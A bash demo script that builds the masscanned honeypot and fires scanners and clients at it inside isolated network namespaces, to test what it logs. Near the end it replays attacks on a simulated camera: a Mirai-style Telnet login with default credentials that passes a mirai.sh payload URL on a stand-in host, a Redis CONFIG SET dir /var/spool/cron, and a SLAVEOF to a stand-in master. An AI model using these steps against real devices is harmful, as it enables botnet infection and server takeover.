#!/usr/bin/env bash
# make demo: masscanned answering real clients, in a throwaway lab.
#
# As root, from a clone, no arguments: installs the Debian tools it needs if
# missing, builds masscanned, creates two network namespaces joined by a
# veth pair (documentation addresses only; nothing is configured in the
# machine's own namespace), runs masscanned in one and fires ping, ping -6,
# arping, nc, curl, dig, nmap, ssh, a Mirai-style Telnet bot, redis-cli and
# masscan at it from the other, prints what
# masscanned logged and a summary, and removes everything on exit.
set -euo pipefail

cd "$(dirname "$0")/.."

if [ "$(id -u)" != 0 ]; then
	echo "demo: run as root (network namespaces and a raw socket): sudo make demo" >&2
	exit 1
fi

# --- tools
need=()
for pair in ip:iproute2 ping:iputils-ping arping:arping nc:netcat-openbsd nmap:nmap curl:curl dig:dnsutils ssh:openssh-client sshpass:sshpass python3:python3 redis-cli:redis-tools p0f:p0f masscan:masscan; do
	command -v "${pair%%:*}" >/dev/null 2>&1 || need+=("${pair#*:}")
done
if [ "${#need[@]}" -gt 0 ]; then
	if ! command -v apt-get >/dev/null 2>&1; then
		echo "demo: missing tools (${need[*]}) and no apt-get to install them" >&2
		exit 1
	fi
	echo "demo: installing ${need[*]}"
	DEBIAN_FRONTEND=noninteractive apt-get update -q </dev/null
	DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "${need[@]}" </dev/null
fi
command -v go >/dev/null 2>&1 || export PATH=/usr/local/go/bin:$PATH
command -v go >/dev/null 2>&1 || { echo "demo: Go is needed to build masscanned (https://go.dev/dl/)" >&2; exit 1; }

# --- build
echo "demo: building bin/masscanned"
CGO_ENABLED=0 go build -o bin/masscanned ./cmd/masscanned
bin=$PWD/bin/masscanned

# --- lab
id=$$
C=mcdemo-c-$id R=mcdemo-r-$id
CIF=vdc$id RIF=vdr$id
C4=198.51.100.1 R4=198.51.100.2 C6=2001:db8:100::1 R6=2001:db8:100::2
# a second address with a host profile: a Debian web server; a third: an
# IoT camera whose Telnet lets bots in (to the recording shell)
P4=198.51.100.3
P5=198.51.100.4
MAC=52:1c:4e:c2:a4:1f
work=$(mktemp -d)
log=$work/masscanned.log
pid=""
cleanup() {
	if [ -n "$pid" ] && kill -0 "$pid" 2>/dev/null; then
		kill -INT "$pid" 2>/dev/null || true
		for _ in $(seq 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
		kill -KILL "$pid" 2>/dev/null || true
	fi
	ip netns del "$C" 2>/dev/null || true
	ip netns del "$R" 2>/dev/null || true
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

echo "demo: namespaces $C (client $C4, $C6) and $R (masscanned $R4, $R6)"
ip netns add "$C"
ip netns add "$R"
ip -n "$C" link add "$CIF" type veth peer name "$RIF" netns "$R"
for ns in "$C" "$R"; do
	ip -n "$ns" link set lo up
	ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0 \
		net.ipv6.conf.all.router_solicitations=0 net.ipv6.conf.default.router_solicitations=0
done
ip -n "$C" addr add "$C4/24" dev "$CIF"
ip -n "$C" addr add "$C6/64" dev "$CIF" nodad
# the responder's kernel has no address: masscanned answers
ip netns exec "$R" sysctl -qw "net.ipv6.conf.$RIF.disable_ipv6=1"
ip -n "$C" link set "$CIF" up
ip -n "$R" link set "$RIF" up

cat >"$work/profile.toml" <<PROFILE
# $P4 looks like a Debian web server: 22, 80 and 443 open, every other
# port closed (RST, ICMP port unreachable), sshd greeting at once.
[[host]]
name = "web"
addresses = ["$P4"]
personality = "linux"
tcp = [22, 80, 443]
udp = []
[host.banners]
ssh = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"
http_server = "nginx/1.22.1"

# $P5 is a BusyBox camera: Telnet (logins accepted: --telnet-accept-after 1),
# HTTP and an exposed Redis.
[[host]]
name = "cam"
addresses = ["$P5"]
tcp = [23, 80, 6379]
udp = []
[host.banners]
telnet = "BusyBox v1.31.1"
hostname = "ipcam"
PROFILE
echo "demo: $R4 and $R6 answer everything (upstream mode); $P4 has a host profile:"
sed 's/^/    /' "$work/profile.toml"
ip netns exec "$R" "$bin" -i "$RIF" -m "$MAC" --self-ip-list "$R4,$R6,$P4,$P5" --format console \
	--profile "$work/profile.toml" --idle-timeout 5s --telnet-accept-after 1 --p0f-db /etc/p0f/p0f.fp \
	>"$log" 2>"$work/stderr" </dev/null &
pid=$!
sleep 1
if ! kill -0 "$pid" 2>/dev/null; then
	echo "demo: masscanned did not start:" >&2
	cat "$work/stderr" >&2
	exit 1
fi

# --- clients
ok=0 fail=0
try() {
	local what=$1
	shift
	if out=$(timeout 60 ip netns exec "$C" "$@" 2>&1 </dev/null); then
		ok=$((ok + 1))
		printf '  %-28s ok\n' "$what"
	else
		fail=$((fail + 1))
		printf '  %-28s FAILED\n%s\n' "$what" "$out"
	fi
	last=$out
}
echo "demo: firing clients at masscanned"
try "ping $R4" ping -c 2 -i 0.2 -W 2 "$R4"
try "ping -6 $R6" ping -6 -c 2 -i 0.2 -W 2 "$R6"
if arping -h 2>&1 | grep -q Habets; then
	try "arping $R4" arping -i "$CIF" -c 2 -w 3 "$R4"
else
	try "arping $R4" arping -I "$CIF" -c 2 -w 3 "$R4"
fi
try "nc -z $R4 22" nc -z -w 3 "$R4" 22
try "nc -6 -z $R6 31337" nc -6 -z -w 3 "$R6" 31337
try "curl http://$R4/" curl -s -i --max-time 5 "http://$R4/"
curl_head=$(printf '%s\n' "$last" | head -1)
try "dig @$R4 example.com" dig +short +time=2 +tries=1 @"$R4" example.com A
dig_answer=$last
try "nmap -sS -p 21-25,80,443" nmap -n -Pn -sS -p 21-25,80,443 "$R4"
nmap_out=$last
echo "demo: the profiled host $P4"
try "nmap -sS -p 21-25,80,443 $P4" nmap -n -Pn -sS -p 21-25,80,443 "$P4"
nmap_prof=$last
try "nmap -sV -p 22,80 $P4" nmap -n -Pn -sV -p 22,80 "$P4"
nmap_sv=$last
try "sshd greeting on $P4:22" sh -c "nc -w 2 $P4 22 </dev/null | head -1"
greeting=$last
try "nmap -sU -p 161 $P4 (closed)" nmap -n -Pn -sU -p 161 "$P4"
udp_out=$last
try "ssh root@$P4 (password refused)" sh -c "sshpass -p 'hunter2' ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 root@$P4 true 2>&1 | grep -q 'Permission denied'"
try "curl -k https://$P4/" curl -k -s -o /dev/null -w '%{http_code}' --max-time 5 "https://$P4/"
https_code=$last
echo "demo: the camera $P5: a Mirai-style bot logs in over Telnet, redis-cli pokes Redis"
try "mirai-style telnet $P5" python3 e2e/scripts/mirai_telnet.py "$P5" 23 root xc3511 http://203.0.113.66/mirai.sh
try "redis-cli -h $P5 CONFIG SET dir" redis-cli -h "$P5" CONFIG SET dir /var/spool/cron
try "redis-cli -h $P5 SLAVEOF" redis-cli -h "$P5" SLAVEOF 203.0.113.9 6379
sleep 0.5
# masscan reads replies through a ring of 32 frames and loses those that
# arrive while it is full: masscanned paces its replies so that a scanner
# hears them all. Its 1000 ports make 3000 lines, left out of the log below.
# masscan speaks from 198.51.100.77, an address the client's kernel does not
# own, as masscan's documentation advises: from the kernel's own address, the
# kernel resets every SYN-ACK, and masscan heard only 484-797 of 1000 here.
echo "demo: masscan -p1-1000 --rate 10000 at $R4: does the scanner hear every reply?"
lines_before=$(grep -c . "$log" || true)
ip -n "$C" neigh replace "$R4" lladdr "$MAC" dev "$CIF" nud permanent
try "masscan -p1-1000 $R4" sh -c "cd '$work' && masscan -e '$CIF' --router-mac '$MAC' --adapter-ip 198.51.100.77 -p1-1000 --rate 10000 --wait 3 '$R4' -oL '$work/masscan.txt' >/dev/null 2>&1; grep -c '^open' '$work/masscan.txt'"
masscan_open=$last

kill -INT "$pid" 2>/dev/null || true
wait "$pid" 2>/dev/null || true
pid=""

echo
echo "demo: what masscanned logged (one line per frame, plus timers and connection ends):"
echo "------------------------------------------------------------------------"
head -n "${lines_before:-100000000}" "$log"
echo "------------------------------------------------------------------------"
[ -n "${lines_before:-}" ] && echo "demo: (and $(($(grep -c . "$log") - lines_before)) lines for masscan's 1000 ports, not shown)"
echo
echo "demo: summary"
echo "  clients ok: $ok, failed: $fail"
echo "  curl:  $curl_head"
echo "  dig:   ${dig_answer:-<no answer>}"
echo "  nmap:  $(printf '%s\n' "$nmap_out" | grep -c '/tcp *open') of 7 ports open on $R4 (upstream: everything open)"
echo "  nmap:  $(printf '%s\n' "$nmap_prof" | grep -c '/tcp *open') open, $(printf '%s\n' "$nmap_prof" | grep -c '/tcp *closed') closed on the profiled $P4"
echo "  nmap -sV $P4:"
printf '%s\n' "$nmap_sv" | grep '/tcp' | sed 's/^/         /'
echo "  greeting on $P4:22: ${greeting:-<none>}"
echo "  UDP 161 on $P4: $(printf '%s\n' "$udp_out" | grep '161/udp' || echo '?')"
echo "  ssh login recorded: $(grep -o 'user=root.*password=hunter2' "$log" | head -1 | cut -c1-60)"
echo "  https on $P4: $https_code, ClientHello $(grep -o 'ja4=[^[:space:]]*' "$log" | head -1)"
echo "  telnet on $P5: $(grep -o 'auth="telnet user=root password=xc3511 success"' "$log" | head -1), commands: $(grep -c 'command=' "$log"), URL: $(grep -o 'urls=[^[:space:]]*mirai.sh' "$log" | head -1)"
echo "  redis on $P5: $(grep -o 'command="CONFIG SET dir [^"]*"' "$log" | head -1) $(grep -o 'master=[^[:space:]]*' "$log" | head -1)"
echo "  a SYN's p0f fingerprint: $(grep -o 'tcp_fp=[^[:space:]]*[[:space:]]os="[^"]*"' "$log" | head -1 | tr '\t' ' ')"
echo "  masscan: ${masscan_open:-?} of 1000 ports heard open on $R4 (replies paced for its 32-frame ring)"
echo "  connection-end events: $(grep -c 'conn-end' "$log")"
echo "  masscanned logged $(grep -c . "$log") events"
if [ -s "$work/stderr" ]; then
	echo "  masscanned stderr:"
	sed 's/^/    /' "$work/stderr"
fi
[ "$fail" = 0 ]
